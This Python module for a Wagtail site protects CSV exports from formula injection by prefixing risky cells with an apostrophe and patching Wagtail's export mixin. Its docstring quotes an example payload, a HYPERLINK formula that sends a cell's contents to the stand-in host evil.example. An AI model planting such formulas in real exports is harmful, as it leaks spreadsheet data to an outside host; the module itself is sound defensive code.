"""Spreadsheet exports that a spreadsheet program cannot turn into formulas (CSV injection).

A title such as `=HYPERLINK("http://evil.example/?"&A1, "click")` or `@SUM(...)`, written raw into a
CSV file, runs as a formula when an editor opens the export. Every text cell starting with one of
the characters spreadsheets read as a formula gets a leading apostrophe (OWASP's advice): the
translations overview's CSV uses `safe_cell`, and Wagtail's own report exports (SpreadsheetExportMixin:
page reports, form submissions, site history) are made to use it by `protect_wagtail_exports`, called
once when the app is ready. Wagtail's XLSX exports already store such cells as text.
"""

from decimal import Decimal

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "|", "%")


def safe_cell(value):
    """`value` as a CSV cell: numbers and empty cells as they are, text never read as a formula."""
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _write_csv_row(self, writer, row_dict):
    return writer.writerow(
        {
            field: safe_cell(self.preprocess_field_value(field, value, self.FORMAT_CSV))
            for field, value in row_dict.items()
        }
    )


def protect_wagtail_exports() -> None:
    SpreadsheetExportMixin.write_csv_row = _write_csv_row
